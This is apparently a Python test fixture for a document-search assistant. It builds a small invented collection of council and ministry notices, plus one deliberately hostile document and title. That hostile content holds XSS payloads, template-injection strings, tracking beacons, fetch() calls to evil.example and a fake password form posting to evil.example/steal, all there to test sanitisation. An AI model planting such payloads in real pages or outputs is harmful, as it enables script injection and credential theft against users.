"""A small invented collection, one document of which is hostile, and an index of it made by the real encoder."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

from esnqa.assistant import Assistant
from esnqa.indexing import build_index
from esnqa.settings import Settings

HOSTILE_TITLE = (
    "<img src=x onerror=alert(1)> <script>alert(2)</script> ![p](http://evil.example/t.png) \"' onmouseover=alert(3)"
)
HOSTILE_TEXT = (
    "The garden project of Quillbury <img src=http://evil.example/a.png onerror=alert(4)> began in 2017 with "
    "<form action=http://evil.example/steal><input type=password name=pw></form> nine volunteers. "
    "![beacon](http://evil.example/b.png) [click](javascript:alert(5)) <style>@import url(http://evil.example/c.css);</style> "
    "${alert(6)} {{constructor.constructor('alert(7)')()}} `${fetch('http://evil.example/d')}` </mark></article><svg onload=alert(8)>"
)
DOCUMENTS = {
    "shelter.md": """---
title: Winter shelter in Brinmouth
source_url: https://brinmouth.example/news?id=7&lang=en
publisher: Brinmouth Town Council
published: 2021-11-05
language: en
kind: article
themes: [homelessness-and-housing]
countries: [GB]
superseded_by: ["https://brinmouth.example/news/2023"]
---
The winter shelter in Brinmouth opened on 3 November 2021. It has 42 beds and is run by the charity Warm Harbour.

## Who may stay

People without a home may stay for up to 28 nights. Dogs are welcome in the east wing.

- Guests get a warm meal in the evening.
- Guests get help with forms on Tuesdays.

| Year | Guests |
| --- | --- |
| 2021 | 310 |
| 2022 | 275 |
""",
    "later.md": """---
title: Brinmouth shelter now open all year
source_url: https://brinmouth.example/news/2023
publisher: Brinmouth Town Council
published: 2023-02
language: en
kind: article
themes: [homelessness-and-housing]
countries: [GB]
---
Since February 2023 the Brinmouth shelter is open all year. Its director, Maud Ferrin, said that 60 beds are now ready.
""",
    "pflege.md": """---
title: Pflegeberatung in Lindenau
source_url: https://lindenau.example/pflege
publisher: Stadt Lindenau
published: 2019
language: de
kind: briefing
themes: [ageing-and-long-term-care]
countries: [DE]
---
Die Stadt Lindenau eröffnete 2019 drei Beratungsstellen für pflegende Angehörige. Die Beratung ist kostenlos und wird
von der Sozialarbeiterin Jutta Krähwinkel geleitet.
""",
    "foster.md": """---
title: Foster care allowances in Ostrevia
publisher: Ministry of Families of Ostrevia
published: 2020-06-01
language: en
kind: briefing
themes: [child-protection]
countries: [PL]
---
The foster care allowance in Ostrevia rose from 510 to 640 crowns a month on 1 June 2020. The ministry expects that 1,200
families will receive it. A household may foster at most four children at a time.
""",
    "garden.txt": HOSTILE_TEXT,
}


def write_documents(folder: Path) -> Path:
    """The collection as files in ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in DOCUMENTS.items():
        (folder / name).write_text(text, encoding="utf-8")
    title = HOSTILE_TITLE.replace("'", "''")
    (folder / "titled.md").write_text(
        f"---\ntitle: '{title}'\nlanguage: en\npublisher: '<b>Bold</b>'\n---\n"
        "The allotment scheme of Marrowby was started by Percy Thistledown in 2018.\n",
        encoding="utf-8",
    )
    return folder


def index_of(folder: Path, more: Mapping[str, str] | None = None) -> Path:
    """An index of the collection, and of ``more`` files with their texts, below ``folder``."""
    settings = Settings(index_dir=folder / "index", threads=1)
    documents = write_documents(folder / "documents")
    for name, text in (more or {}).items():
        (documents / name).write_text(text, encoding="utf-8")
    report = build_index([str(documents)], settings)
    assert not report.failures, report.failures
    return settings.index_dir


def assistant_of(folder: Path) -> Assistant:
    """An assistant over an index of the collection."""
    return Assistant.open(settings=Settings(index_dir=index_of(folder), threads=1))
